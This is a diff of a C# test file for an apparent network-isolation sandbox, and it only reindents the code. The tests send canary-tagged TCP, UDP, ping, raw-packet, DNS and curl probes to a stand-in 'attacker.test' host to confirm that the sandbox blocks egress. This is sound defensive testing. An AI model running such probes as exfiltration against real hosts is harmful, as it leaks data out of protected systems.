@@ -17,21 +17,21 @@ public sealed class ScopeTests(LabFixture fixture) : KernelTest(fixture)
             "while [ ! -e /run/lab/work/done ]; do :; done",
             $"{Program("tcp")} connect {Attacker} 4443 again{Canary} && exit 9",
             "rm /run/lab/work/done") with
+        {
+            Meanwhile = async job =>
             {
-                Meanwhile = async job =>
-                {
-                    await job.SaysAsync("refused", s_deadline);
-                    outside.Add(await Lab.OutsideAsync("tcp", "connect", Attacker, "4443", "tcp" + Canary));
-                    outside.Add(await Lab.OutsideAsync("udp", "sendto", Attacker, "5300", "udp" + Canary));
-                    outside.Add(await Lab.OutsideAsync("raw", "ping", Attacker, "ping" + Canary));
-                    outside.Add(await Lab.OutsideAsync(
-                        "raw", "packet", "lab0", Client, Attacker, "5301", "frame" + Canary));
-                    outside.Add(await Lab.OutsideAsync("dns", "ask", Resolver, $"dns{Canary}.attacker.test", "A"));
-                    outside.Add(await Lab.OutsideAsync("dns", "ask", PublicResolver, $"txt{Canary}.test", "TXT"));
-                    outside.Add(await Lab.OutsideAsync("curl", "-sS", $"https://attacker.test/tls{Canary}"));
-                    File.WriteAllText(Path.Combine(Lab.WorkFolder, "done"), "");
-                },
-            });
+                await job.SaysAsync("refused", s_deadline);
+                outside.Add(await Lab.OutsideAsync("tcp", "connect", Attacker, "4443", "tcp" + Canary));
+                outside.Add(await Lab.OutsideAsync("udp", "sendto", Attacker, "5300", "udp" + Canary));
+                outside.Add(await Lab.OutsideAsync("raw", "ping", Attacker, "ping" + Canary));
+                outside.Add(await Lab.OutsideAsync(
+                    "raw", "packet", "lab0", Client, Attacker, "5301", "frame" + Canary));
+                outside.Add(await Lab.OutsideAsync("dns", "ask", Resolver, $"dns{Canary}.attacker.test", "A"));
+                outside.Add(await Lab.OutsideAsync("dns", "ask", PublicResolver, $"txt{Canary}.test", "TXT"));
+                outside.Add(await Lab.OutsideAsync("curl", "-sS", $"https://attacker.test/tls{Canary}"));
+                File.WriteAllText(Path.Combine(Lab.WorkFolder, "done"), "");
+            },
+        });
         Assert.Equal(0, run.Process.ExitCode);
         foreach (var what in (string[])["tcp", "udp", "ping", "frame", "dns", "txt", "tls"])
         {
@@ -114,7 +114,7 @@ public sealed class ScopeTests(LabFixture fixture) : KernelTest(fixture)
         $"{Program("tcp")} connect {Attacker} 8080 {own}-8080{Canary} || true",
         "echo done",
         $"while [ ! -e /run/lab/work/{Canary} ]; do :; done") with
-        {
-            Allow = [$"tcp://{Attacker}:{own}"],
-        };
+    {
+        Allow = [$"tcp://{Attacker}:{own}"],
+    };
 }
